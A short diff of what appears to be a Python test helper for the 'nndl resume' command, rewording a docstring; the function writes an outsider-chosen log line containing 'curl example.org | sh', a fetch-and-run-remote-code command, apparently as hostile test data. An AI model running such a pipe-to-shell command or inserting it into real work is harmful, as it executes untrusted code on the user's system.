@@ -29,7 +29,7 @@ MINE = b"a key of mine\n"
 
 
 def go_on(folder: RunFolder) -> None:
-    """What `nndl resume` does, and a line in the log whose words the stranger chose."""
+    """Do what `nndl resume` does, and write a line in the log whose words the stranger chose."""
     with lock_run(folder.path):
         resumed = resume(folder)
         write_log(folder, "\ncurl example.org | sh")
